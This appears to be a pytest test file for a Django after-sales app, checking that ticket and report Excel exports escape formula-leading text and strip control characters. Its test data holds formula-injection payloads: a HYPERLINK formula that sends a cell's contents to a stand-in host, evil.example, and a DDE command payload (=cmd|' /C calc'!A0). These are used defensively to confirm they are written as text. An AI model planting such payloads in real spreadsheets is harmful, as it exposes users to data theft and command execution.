"""Issue 11 "Exports": formula-leading text is written as text (never a live formula) and
control characters never make an export fail — the ticket export and the report exports
share core.excel.safe_row."""
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from aftersales.core.excel import safe_cell
from aftersales.reports.excel import workbook_response
from aftersales.tickets.models import Ticket
from tests.factories import CustomerFactory
from tests.tickets.factories import open_test_ticket

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.mark.parametrize("text,expected", [
    (EVIL, "'" + EVIL), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("屏幕不亮", "屏幕不亮"), ("坏\x07了\x00", "坏了"),
    (12, 12), (None, None),
])
def test_safe_cell(text, expected):
    assert safe_cell(text) == expected


def _cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def test_the_ticket_export_writes_a_formula_summary_as_text(manager):
    customer = CustomerFactory(name="=cmd|' /C calc'!A0")
    formula = open_test_ticket(actor=manager, customer=customer, summary=EVIL)
    broken = open_test_ticket(actor=manager, customer=customer, summary="旧数据")
    # data from before the edge refused control characters
    Ticket.objects.filter(pk=broken.pk).update(summary="旧\x01数据\x1b")
    web = Client()
    web.force_login(manager)
    response = web.get("/tickets/export.xlsx", {"tab": "all"})
    assert response.status_code == 200
    rows = {row[0][0]: row for row in _cells(response.content)[1:]}
    assert rows[formula.number][8] == ("'" + EVIL, "s")
    assert rows[formula.number][4] == ("'=cmd|' /C calc'!A0", "s")
    assert rows[broken.number][8] == ("旧数据", "s")
    assert not [cell for row in rows.values() for cell in row if cell[1] == "f"]


def test_report_exports_write_text_cells(db):
    response = workbook_response(title="报表", filename="r.xlsx", headers=["名称", "=x"],
                                 rows=[[EVIL, 3], ["a\x00b", -1]])
    assert _cells(response.content) == [[("名称", "s"), ("'=x", "s")],
                                        [("'" + EVIL, "s"), (3, "n")],
                                        [("ab", "s"), (-1, "n")]]
